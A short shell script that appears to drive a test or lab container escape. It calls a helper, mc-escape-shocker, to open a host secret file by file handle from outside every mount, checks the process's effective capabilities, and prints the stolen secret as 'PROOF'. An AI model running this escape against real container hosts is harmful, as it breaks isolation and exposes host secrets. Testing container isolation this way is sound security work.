# Attack: /data is a volume on the host's filesystem, an empty directory; the
# host's secret file is not in it. Its file handle, though, names it on the
# whole filesystem: open it relative to /data, no path walked.
echo "volume: $(ls -A /data | wc -l) entries in /data"
echo "handle: type $MC_HANDLE_TYPE, bytes $MC_HANDLE"
grep CapEff /proc/self/status
if secret=$(mc-escape-shocker /data "$MC_HANDLE_TYPE" "$MC_HANDLE"); then
    echo "opened the host file outside every mount"
    echo "PROOF $secret"
else
    echo "$secret"
fi
